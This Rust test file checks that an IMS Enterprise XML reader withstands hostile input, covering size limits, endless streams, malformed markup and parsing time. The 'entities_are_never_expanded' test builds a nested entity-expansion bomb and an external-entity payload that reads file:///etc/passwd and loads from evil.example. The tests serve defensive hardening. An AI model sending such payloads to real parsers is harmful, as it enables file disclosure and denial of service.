//! Input made to do harm: it ends, it ends soon, and it says where.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test that fails")]
#![expect(clippy::disallowed_types, reason = "how the time grows is what is tested")]

use std::fmt::Write as _;
use std::io::{BufReader, Read};
use std::time::{Duration, Instant};

use edu_diagnostics::{Collector, Diagnostic, Value};
use edu_syntax::Decoded;
use edu_syntax::xml::{Limits, Text};
use ims_enterprise::{ImsReader, ReadError, Record, StreamError, recognise};

const START: &str = "<enterprise><properties><datasource>SIS</datasource>\
    <datetime>2026-09-01T03:00:00</datetime></properties>";

/// A person with something in front of the name, where 1.1 has `userid`.
fn person(content: &str) -> String {
    format!(
        "<person><sourcedid><source>SIS</source><id>1</id></sourcedid>{content}\
         <name><fn>Eva Maier</fn></name></person>"
    )
}

fn file(content: &str) -> String {
    format!("{START}{content}</enterprise>")
}

fn in_text(text: &str) -> String {
    file(&person(&format!("<userid>{text}</userid>")))
}

fn in_attribute(value: &str) -> String {
    file(&person(&format!("<userid password='{value}'>eva</userid>")))
}

/// The rules over the whole file have tests of their own.
fn reader() -> ImsReader {
    ImsReader::new().without_whole_file_rules()
}

/// A limit would end the reading and hide how it goes on.
const NO_LIMITS: Limits = Limits {
    depth: 128,
    attributes: 256,
    token: usize::MAX,
    record: usize::MAX,
    faults: usize::MAX,
};

/// Number of persons, findings by code, and what there was too much of.
type Outcome = (u64, Vec<(&'static str, u64)>, Option<String>);

fn read(reader: ImsReader, bytes: &[u8]) -> Outcome {
    let decoded = Decoded::new(bytes);
    recognise(decoded.text());
    let mut found = Collector::new().with_limit(10);
    let mut limit = None;
    let mut records = reader.for_text(&decoded, &mut found);
    for record in records.by_ref() {
        if let Err(error) = record {
            limit = Some(exceeded(&error));
        }
    }
    let persons = records.summary().counts.person;
    (persons, found.counts().map(|(rule, count)| (rule.code, count)).collect(), limit)
}

fn exceeded(error: &ReadError) -> String {
    let ReadError::Limit(finding) = error else { panic!("{error}") };
    assert!(finding.span.is_some() && finding.position.is_some());
    let Some(Value::Word(what)) = finding.get("what") else { panic!("{error}") };
    what.to_string()
}

/// What an input is, its bytes, and what reading it comes to.
type Case<'a> = (&'a str, Vec<u8>, u64, &'a [(&'a str, u64)], Option<&'a str>);

fn check(cases: &[Case<'_>]) {
    check_with(Limits::default(), cases);
}

fn check_with(limits: Limits, cases: &[Case<'_>]) {
    for (what, bytes, persons, codes, limit) in cases {
        let (found_persons, found, exceeded) = read(reader().with_limits(limits), bytes);
        assert_eq!(
            (found_persons, &found[..], exceeded.as_deref()),
            (*persons, *codes, *limit),
            "{what}"
        );
    }
}

#[test]
fn entities_are_never_expanded() {
    let mut bomb = String::from("<?xml version='1.0'?><!DOCTYPE enterprise [<!ENTITY e0 'ha'>");
    for level in 1..30 {
        let inner = format!("&e{};", level - 1).repeat(10);
        write!(bomb, "<!ENTITY e{level} '{inner}'>").unwrap();
    }
    bomb += "]>";
    let external = "<!DOCTYPE enterprise SYSTEM 'file:///etc/passwd' [\
        <!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://evil.example/'> %p;]>";
    for (doctype, reference) in [(bomb.as_str(), "&e29;"), (external, "&x;")] {
        let text = format!("{doctype}{}", in_text(reference));
        let (persons, codes, limit) = read(reader(), text.as_bytes());
        assert_eq!((persons, limit), (1, None));
        assert_eq!(codes, [("IE-F01", 1), ("IE-X02", 1)]);
        let decoded = Decoded::from(text.as_str());
        let mut found = Collector::new();
        for record in reader().for_text(&decoded, &mut found) {
            if let Record::Person(person) = record.unwrap() {
                assert_eq!(person.userids[0].text.value(), reference);
            }
        }
    }
}

#[test]
fn limits() {
    const MEGA: usize = 1 << 20;
    let big = || "x".repeat(20 * MEGA);
    let name = || "x".repeat(9 * MEGA);
    let deep = "<x>".repeat(1_000_000);
    let nested = format!("{}{}", "<x>".repeat(100_000), "</x>".repeat(100_000));
    let attributes = format!("<userid{}>x</userid>", " a='1'".repeat(1_000_000));
    check(&[
        ("depth", file(&deep).into(), 0, &[], Some("depth")),
        ("depth in a record", file(&person(&deep)).into(), 0, &[], Some("depth")),
        ("depth without root", deep.clone().into(), 0, &[], Some("depth")),
        (
            "depth around records",
            format!("{deep}{}", file(&person(""))).into(),
            0,
            &[],
            Some("depth"),
        ),
        ("unknown elements", file(&nested).into(), 0, &[], Some("depth")),
        ("attributes", file(&person(&attributes)).into(), 0, &[], Some("attributes")),
        ("a text", in_text(&big()).into(), 0, &[], Some("token")),
        ("an attribute", in_attribute(&big()).into(), 0, &[], Some("token")),
        ("a comment", file(&format!("<!--{}-->", big())).into(), 0, &[], Some("token")),
        ("a section", in_text(&format!("<![CDATA[{}]]>", big())).into(), 0, &[], Some("token")),
        ("an instruction", file(&format!("<?{}?>", big())).into(), 0, &[], Some("token")),
        ("a name", file(&format!("<{}/>", name())).into(), 0, &[], Some("token")),
        (
            "the name of an attribute",
            file(&format!("<x {}='1'/>", name())).into(),
            0,
            &[],
            Some("token"),
        ),
        (
            "a record",
            file(&person(&"<userid>x</userid>".repeat(17 * MEGA / 18))).into(),
            0,
            &[],
            Some("record"),
        ),
    ]);
}

#[test]
fn a_record_is_refused_where_it_is_too_large_and_not_at_its_end() {
    let limits = Limits { record: 50_000, ..Limits::default() };
    let [little, much] =
        [10_000, 160_000].map(|items| file(&person(&"<userid>x</userid>".repeat(items))));
    let run = |text: &str| {
        let (persons, _, limit) = read(reader().with_limits(limits), text.as_bytes());
        assert_eq!((persons, limit.as_deref()), (0, Some("record")));
    };
    // Sixteen times the length takes no more than eight times the time.
    assert!(!is_slow(|| run(&little), || run(&much)));
}

/// A start, then the same for ever; counts what was taken.
struct Endless {
    start: &'static [u8],
    again: &'static [u8],
    taken: usize,
}

impl Read for Endless {
    fn read(&mut self, buffer: &mut [u8]) -> std::io::Result<usize> {
        for byte in &mut *buffer {
            *byte = match self.taken.checked_sub(self.start.len()) {
                None => self.start[self.taken],
                Some(past) => self.again[past % self.again.len()],
            };
            self.taken += 1;
        }
        Ok(buffer.len())
    }
}

/// The limit that ends the reading of a start with the same behind it for ever, and the bytes taken.
fn exceeded_by_endless(
    limits: Limits,
    start: &'static str,
    again: &'static str,
) -> (ReadError, usize) {
    let endless = Endless { start: start.as_bytes(), again: again.as_bytes(), taken: 0 };
    let mut input = BufReader::new(endless);
    let mut found = Collector::new().with_limit(10);
    let stream = reader().with_limits(limits).for_reader(&mut input, &mut found);
    let result = stream.with_piece(4096).for_each(|_| ());
    let Err(StreamError::Read(error)) = result else { panic!("{start}{again}: {result:?}") };
    (error, input.get_ref().taken)
}

#[test]
fn a_stream_without_end_is_refused() {
    let limits = Limits { token: 20_000, record: 50_000, ..NO_LIMITS };
    let cases: [(&str, &str); 9] = [
        ("<enterprise><person>", "<userid>x</userid>"),
        ("<enterprise><person>", "<x>y</x>"),
        ("<enterprise><person>", "&"),
        ("<enterprise><person>", "</x>"),
        ("<enterprise><person><extension>", "<x>y</x>"),
        ("<enterprise><person", " a='1'"),
        ("<enterprise><person><name><fn>", "x<b>y</b>"),
        ("<enterprise><membership><member>", "<role><status>1</status></role>"),
        ("<enterprise><", "person"),
    ];
    for (start, again) in cases {
        let (error, taken) = exceeded_by_endless(limits, start, again);
        assert!(["token", "record", "attributes"].contains(&exceeded(&error).as_str()), "{error}");
        assert!(taken < 300_000, "{start} {again}: {taken}");
    }
}

#[test]
fn bytes_that_are_no_text() {
    let mut seed: u64 = 1;
    let random: Vec<u8> = std::iter::repeat_with(|| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        seed.to_be_bytes()[0]
    })
    .take(200_000)
    .collect();
    for from in [0, 1, 2, 3] {
        let (persons, ..) = read(reader(), &random[from..]);
        assert_eq!(persons, 0);
    }
    check(&[
        ("nothing", Vec::new(), 0, &[("IE-F09", 1)], None),
        ("blanks", b" \r\n\t".repeat(1000), 0, &[("IE-F09", 1)], None),
        ("a text", b"no element".to_vec(), 0, &[("IE-F09", 1), ("IE-S05", 1)], None),
        ("no record", file("").into(), 0, &[("IE-F08", 1)], None),
        ("NULs", vec![0; 10_000], 0, &[("IE-F09", 1), ("IE-S05", 1), ("IE-X11", 1)], None),
        (
            "NULs in a record",
            file(&person(&"\0".repeat(10_000))).into(),
            1,
            &[("IE-S05", 1), ("IE-X11", 1)],
            None,
        ),
        ("NULs in a text", in_text("e\0v\0a").into(), 1, &[("IE-X11", 2)], None),
        ("0xFF", vec![0xFF; 10_000], 0, &[("IE-E01", 1), ("IE-F09", 1), ("IE-S05", 1)], None),
        (
            "not UTF-8",
            in_text("E")
                .replace('E', "\u{1}")
                .into_bytes()
                .iter()
                .map(|&b| if b == 1 { 0xE9 } else { b })
                .collect(),
            1,
            &[("IE-E01", 1)],
            None,
        ),
    ]);
}

#[test]
fn what_is_never_closed() {
    let persons = person("").repeat(2000);
    check(&[
        (
            "a quote in a record",
            file(&format!("<person recstatus=\"1>{persons}")).into(),
            2001,
            &[("IE-R01", 1), ("IE-R04", 1), ("IE-X05", 1), ("IE-X09", 1)],
            None,
        ),
        (
            "a quote in the root",
            format!("<enterprise lang=\"en>{}{persons}</enterprise>", &START[12..]).into(),
            2000,
            &[("IE-S04", 1), ("IE-X09", 1)],
            None,
        ),
        (
            "a comment",
            file(&format!("{}<!-- {persons}", person(""))).into(),
            1,
            &[("IE-F06", 1)],
            None,
        ),
        (
            "a section",
            file(&format!("{}<![CDATA[ {persons}", person(""))).into(),
            1,
            &[("IE-F06", 1)],
            None,
        ),
        (
            "a document type",
            format!("<!DOCTYPE enterprise [ {}", file(&persons)).into(),
            0,
            &[("IE-F06", 1)],
            None,
        ),
    ]);
}

#[test]
fn two_hundred_thousand_ampersands() {
    let persons = person(&format!("<userid>{}</userid>", "& ".repeat(500))).repeat(400);
    check(&[(
        "in many records",
        file(&persons).into(),
        400,
        &[("IE-L01", 400), ("IE-V05", 400), ("IE-X01", 200_000)],
        None,
    )]);
    check_with(
        NO_LIMITS,
        &[(
            "in one text",
            in_text(&"& ".repeat(200_000)).into(),
            1,
            &[("IE-L01", 1), ("IE-V05", 1), ("IE-X01", 200_000)],
            None,
        )],
    );
}

#[test]
fn a_hundred_thousand_stray_end_tags() {
    let tags = "</x>".repeat(100_000);
    let persons = person(&"</x>".repeat(1000)).repeat(100);
    check(&[("in many records", file(&persons).into(), 100, &[("IE-X06", 100_000)], None)]);
    check_with(
        NO_LIMITS,
        &[("in one record", file(&person(&tags)).into(), 1, &[("IE-X06", 100_000)], None)],
    );
}

#[test]
fn eight_megabytes_of_ampersands_in_one_text_end_the_reading_soon() {
    let text = in_text(&"&".repeat((8 << 20) - 1000));
    let first = text.find('&').unwrap() as u64;
    let decoded = Decoded::from(text.as_str());
    let mut found = Collector::new();
    let error = reader().for_text(&decoded, &mut found).find_map(Result::err).unwrap();
    assert_eq!(exceeded(&error), "faults");
    let finding = error.diagnostic();
    assert_eq!((finding.rule.code, finding.get("limit")), ("IE-F07", Some(&Value::Count(10_000))));
    assert_eq!(finding.span.unwrap().start, first + 10_001, "not a byte further");
    assert_eq!(found.counts().count(), 0, "nothing is said about half a record");

    let (error, taken) =
        exceeded_by_endless(Limits::default(), "<enterprise><person><userid>", "&");
    assert_eq!(exceeded(&error), "faults");
    assert!(taken < 50_000, "{taken}");
}

/// What is said about a record has to be kept until the record is over.
#[test]
fn a_record_that_is_nothing_but_damage_ends_the_reading_soon() {
    const DAMAGE: [(&str, &str); 17] = [
        ("<enterprise><person><userid>", "&"),
        ("<enterprise><person><userid>", "<"),
        ("<enterprise><person><userid>", "&x;"),
        ("<enterprise><person><userid>", "&#0;"),
        ("<enterprise><person><userid>", "</x>"),
        ("<enterprise><person><userid>", "<b x=1/>"),
        ("<enterprise><person><userid>", "<!-- -- -->"),
        ("<enterprise><person><userid>", "]]>"),
        ("<enterprise><person><userid>", "\u{1}x"),
        ("<enterprise><person><userid a='", "&"),
        ("<enterprise><person><userid a='", "<"),
        ("<enterprise><person><userid ", "="),
        ("<enterprise><person>", "</x>"),
        ("<enterprise><person>", "<!-- -- -->"),
        ("<enterprise><person>", "<?xml version='1.0'?>"),
        ("<enterprise><person>", "<x/>"),
        ("<enterprise><person><extension>", "<b x=1/>"),
    ];
    let limits = Limits { token: 100_000, record: 200_000, faults: 100, ..Limits::default() };
    let mut wrong = Vec::new();
    for (start, again) in DAMAGE {
        let text = format!("{start}{}", again.repeat(10_000));
        let (_, _, what) = read(reader().with_limits(limits), text.as_bytes());
        let (error, taken) = exceeded_by_endless(limits, start, again);
        let (what, endless) = (what.unwrap_or_default(), exceeded(&error));
        // These are looked for where a record is over, so that its text becomes too long before.
        let at_the_end = matches!(again, "]]>" | "\u{1}x");
        let (expected, most) = if at_the_end { ("token", 250_000) } else { ("faults", 20_000) };
        if (what.as_str(), endless.as_str()) != ("faults", expected) || taken > most {
            wrong.push(format!("{start}{again:?}: {what:?} {endless:?} {taken}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_less_than_is_one_finding() {
    for around in ["<", "<!", "< !", "<1"] {
        let text = file(&format!("{}{around} ", person("")));
        let (_, codes, _) = read(reader(), text.as_bytes());
        assert_eq!(codes, [("IE-S05", 1), ("IE-X04", 1)], "{around}");
    }
}

#[test]
fn nothing_but_the_start_of_markup() {
    const COUNT: u64 = 50_000;
    let repeat = |text: &str| text.repeat(50_000);
    // The last one may be the start of a tag that is cut off.
    let cut: [(&str, u64); 2] = [("IE-F06", 1), ("IE-X04", COUNT - 1)];
    let around = |code| [("IE-F09", 1), ("IE-S05", 1), (code, COUNT)];
    let (less_than, ampersand) = (around("IE-X04"), around("IE-X01"));
    check_with(
        NO_LIMITS,
        &[
            ("<", repeat("<").into(), 0, &cut, None),
            ("< ", repeat("< ").into(), 0, &less_than, None),
            ("&", repeat("& ").into(), 0, &ampersand, None),
            ("<", in_text(&repeat("<")).into(), 1, &[("IE-L01", 1), ("IE-X04", COUNT)], None),
            ("&", in_attribute(&repeat("&")).into(), 1, &[("IE-L01", 1), ("IE-X01", COUNT)], None),
        ],
    );
    check(&[
        ("<a", repeat("<a").into(), 0, &[("IE-X09", 128)], Some("depth")),
        ("<a ", repeat("<a ").into(), 0, &[("IE-X09", 128)], Some("depth")),
        ("<!--", repeat("<!--").into(), 0, &[("IE-F06", 1)], None),
        ("<![CDATA[", repeat("<![CDATA[").into(), 0, &[("IE-F06", 1)], None),
        ("<?", repeat("<?").into(), 0, &[("IE-F06", 1)], None),
        ("<!DOCTYPE [", repeat("<!DOCTYPE [").into(), 0, &[("IE-F06", 1)], None),
    ]);
}

fn time(run: impl FnOnce()) -> Duration {
    let start = Instant::now();
    run();
    start.elapsed()
}

/// Whether a run with four times the length takes more than twice the time of four runs.
fn is_slow(short: impl Fn(), long: impl Fn()) -> bool {
    // Another program may take the processor from the longer run; five times is no accident.
    (0..5).all(|_| time(&long) > time(|| (0..4).for_each(|_| short())) * 2)
}

/// What an input is, a length, and what makes an input of that length.
type Growing = (&'static str, usize, fn(usize) -> String);

/// Names the inputs for which the time grows faster than the length.
fn slow(cases: &[Growing], run: fn(&str)) -> Vec<&'static str> {
    let is_slow = |(_, n, make): &&Growing| {
        let (short, long) = (make(*n), make(4 * n));
        is_slow(|| run(&short), || run(&long))
    };
    cases.iter().filter(is_slow).map(|(what, ..)| *what).collect()
}

#[test]
fn reading_takes_time_by_the_length() {
    let cases: [Growing; 25] = [
        ("bare & in a text", 2000, |n| in_text(&"& ".repeat(n))),
        ("bare & in records", 400, |n| file(&person("<userid>&</userid>").repeat(n))),
        ("bare & in an id", 2000, |n| file(&person("").replace("1</id>", &"& ".repeat(n)))),
        ("bare < in a text", 2000, |n| in_text(&"<".repeat(n))),
        ("unknown references", 2000, |n| in_text(&"&x;".repeat(n))),
        ("references", 10_000, |n| in_text(&"&amp;".repeat(n))),
        ("escaped twice", 10_000, |n| in_text(&"&amp;amp;".repeat(n))),
        ("stray end tags", 2000, |n| file(&person(&"</x>".repeat(n)))),
        ("sections", 4000, |n| in_text(&"<![CDATA[x]]>".repeat(n))),
        ("]]> in comments", 4000, |n| in_text(&"<!--]]>-->".repeat(n))),
        ("]]> in a text", 6000, |n| in_text(&"]]>".repeat(n))),
        ("comments", 10_000, |n| in_text(&"<!-- -->x".repeat(n))),
        ("control characters", 2000, |n| in_text(&"\u{1}x".repeat(n))),
        ("elements in a text", 4000, |n| in_text(&"<b>x</b>".repeat(n))),
        ("passwords in a text", 3000, |n| in_text(&"password=".repeat(n))),
        ("prefixes", 40, |n| {
            let prefix = |number| format!(" xmlns:p{number}='u'");
            let person = |tag| {
                let prefixes: String = (100 * tag..100 * tag + 100).map(prefix).collect();
                person(&format!("<userid{prefixes}/>"))
            };
            file(&(0..n).map(person).collect::<String>())
        }),
        ("persons that are not closed", 300, |n| file(&"<person><name>".repeat(n))),
        ("members", 400, |n| file(&format!("<membership>{}</membership>", "<member/>".repeat(n)))),
        ("the same person again", 200, |n| file(&person("").repeat(n))),
        ("members that are nobody", 200, |n| {
            let member = |id| format!("<member><sourcedid><id>{id}</id></sourcedid></member>");
            file(&format!("<membership>{}</membership>", (0..n).map(member).collect::<String>()))
        }),
        ("ids that change again and again", 200, |n| {
            let id =
                |kind, id| format!("<sourcedid sourcedidtype='{kind}'><id>{id}</id></sourcedid>");
            let person = |at| format!("<person>{}{}</person>", id("New", at + 1), id("Old", at));
            file(&(0..n).map(person).collect::<String>())
        }),
        ("roots", 600, |n| "<enterprise></enterprise>".repeat(n)),
        ("other elements around", 4000, |n| format!("{}{}", "<x></x>".repeat(n), file(""))),
        ("repeated items", 1000, |n| file(&person(&"<email/>".repeat(n)))),
        ("text between items", 1000, |n| file(&person(&"x<userid/>".repeat(n)))),
    ];
    let slow = slow(&cases, |text| {
        let decoded = Decoded::new(text.as_bytes());
        let mut found = Collector::new().with_limit(10);
        let mut records = ImsReader::new().with_limits(NO_LIMITS).for_text(&decoded, &mut found);
        assert!(records.all(|record| record.is_ok()));
    });
    assert!(slow.is_empty(), "{slow:?}");
}

#[test]
fn recognising_takes_time_by_the_length() {
    let cases: [Growing; 6] = [
        ("bare < in an attribute", 8000, |n| format!("<x a='{}'/>", "<".repeat(n))),
        ("bare < in an open attribute", 8000, |n| format!("<x a='{}", "<".repeat(n))),
        ("bare & in an attribute", 8000, |n| format!("<x a='{}'/>", "&".repeat(n))),
        ("tags that are not closed", 8000, |n| "<x ".repeat(n)),
        ("stray end tags", 8000, |n| "</x>".repeat(n)),
        ("document types", 8000, |n| "<!DOCTYPE x ['>'<!-- > -->]>".repeat(n)),
    ];
    let slow = slow(&cases, |text| assert_eq!(recognise(text), None));
    assert!(slow.is_empty(), "{slow:?}");
}

#[test]
fn the_value_of_a_text_takes_time_by_its_length() {
    let run = |text: Text<'_>| assert_eq!(text.value().len(), text.raw().len());
    let [short, long] =
        [16_000, 64_000].map(|n| file(&person("").replace("Eva Maier", &"<".repeat(n))));
    let [short, long] = [&short, &long].map(|text| Decoded::from(text.as_str()));
    let [short, long] = [&short, &long].map(|decoded| {
        let mut found = Collector::new().with_limit(10);
        let document = reader().with_limits(NO_LIMITS).document(decoded, &mut found).unwrap();
        document.persons[0].name.as_ref().unwrap().full.unwrap()
    });
    assert!(!is_slow(|| run(short), || run(long)));
}

/// A text of megabytes may have a million findings: none of them may hold the whole of it.
#[test]
fn what_findings_hold_is_bounded() {
    let cases = [
        file(&person("").replace("1</id>", &"& ".repeat(2000))),
        in_text(&"& ".repeat(2000)),
        file(&person(&format!("<tel teltype='{}'/>", "&amp;amp; ".repeat(2000)))),
        file(&person(&format!("<{}>", "n".repeat(8000)))),
    ];
    for text in cases {
        let decoded = Decoded::from(text.as_str());
        let mut longest = 0;
        let mut sink = |finding: Diagnostic| {
            let lengths = finding.args.iter().map(|arg| match &arg.value {
                Value::Data(text) => text.len(),
                Value::Word(word) => word.len(),
                _ => 0,
            });
            longest = longest.max(lengths.max().unwrap_or_default());
        };
        assert!(ImsReader::new().for_text(&decoded, &mut sink).all(|record| record.is_ok()));
        assert!((1..2000).contains(&longest), "{longest}");
    }
}

/// A file with a declaration, comments, references and a section, and no finding.
fn complete() -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<!-- night -->\n{START}\n{}\n<group>\n  <sourcedid><source>SIS</source>\
         <id>C1</id></sourcedid>\n  <description><short><![CDATA[R&D]]></short></description>\n</group>\n\
         <membership><sourcedid><source>SIS</source><id>C1</id></sourcedid>\n{1}{1}</membership>\n\
         </enterprise>\n",
        person("<userid useridtype='a>b' password=\"x&lt;&#233;\">eva</userid>"),
        "<member><sourcedid><source>SIS</source><id>1</id></sourcedid><idtype>1</idtype>\
         <role roletype=\"01\"><status>1</status><!-- x --></role></member>\n",
    )
}

/// Records with the offset where all of them has been seen, and the codes of the findings.
fn records(text: &str) -> (Vec<(usize, String)>, Vec<&'static str>) {
    let decoded = Decoded::from(text);
    let mut found = Collector::new();
    let mut records = Vec::new();
    for record in reader().for_text(&decoded, &mut found) {
        let record = record.unwrap();
        let end = match (&record, record.element()) {
            // It is over where its first member begins.
            (Record::Membership(_), Some(element)) => element.span().end + "<member>".len() as u64,
            (_, Some(element)) => element.span().end,
            (_, None) => (text.find("</membership>").unwrap() + "</membership>".len()) as u64,
        };
        records.push((usize::try_from(end).unwrap(), format!("{record:?}")));
    }
    (records, found.into_sorted().iter().map(|finding| finding.rule.code).collect())
}

#[test]
fn a_file_cut_after_every_byte_gives_the_records_before_the_cut() {
    let whole = complete();
    let (expected, codes) = records(&whole);
    assert_eq!((expected.len(), codes.len()), (7, 0));
    let root = whole.find("<enterprise").unwrap() + "<".len();
    for cut in 0..whole.trim_end().len() {
        let (found, codes) = records(&whole[..cut]);
        let complete: Vec<_> = expected.iter().filter(|(end, _)| *end <= cut).cloned().collect();
        assert_eq!(found, complete, "{}", &whole[..cut]);
        if cut >= root {
            let truncated = codes.iter().filter(|code| **code == "IE-F06").count();
            assert_eq!(truncated, 1, "{codes:?} {}", &whole[..cut]);
        }
    }
}

#[test]
fn a_cut_is_one_finding_wherever_it_falls() {
    let whole = complete();
    let root = whole.find("<enterprise").unwrap();
    // Behind a whole declaration or comment before the root nothing else is known to be missing.
    let expected = |cut: usize| {
        let before = whole[..cut].trim_end();
        let is_between = cut <= root && (before.is_empty() || before.ends_with('>'));
        if is_between { "IE-F09" } else { "IE-F06" }
    };
    let wrong: Vec<_> = (0..whole.trim_end().len())
        .map(|cut| (cut, records(&whole[..cut]).1))
        .filter(|(cut, codes)| *codes != [expected(*cut)])
        .map(|(cut, codes)| (&whole[cut.saturating_sub(8)..cut], codes))
        .collect();
    assert!(wrong.is_empty(), "{} cuts: {:?}", wrong.len(), &wrong[..wrong.len().min(20)]);
}
